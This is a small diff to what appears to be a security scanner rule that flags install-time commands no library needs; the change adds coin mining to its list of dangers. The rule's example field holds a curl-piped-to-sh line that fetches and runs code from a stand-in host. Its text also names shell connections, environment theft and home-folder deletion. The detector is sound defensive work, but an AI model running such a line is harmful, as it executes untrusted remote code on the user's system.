@@ -11,7 +11,7 @@ export const runsDangerousCommands: Rule = {
   title: "Runs a command that no library needs",
   why:
     "A command line that pipes a download into a shell, opens a connection to a shell, sends the " +
-    "environment away or deletes the home folder does in one line what a payload does.",
+    "environment away, mines coins or deletes the home folder does in one line what a payload does.",
   example: 'execSync("curl -s https://stage.invalid/x | sh");',
   advice: "Do not install it before you know what the command is for.",
   severity: "critical",
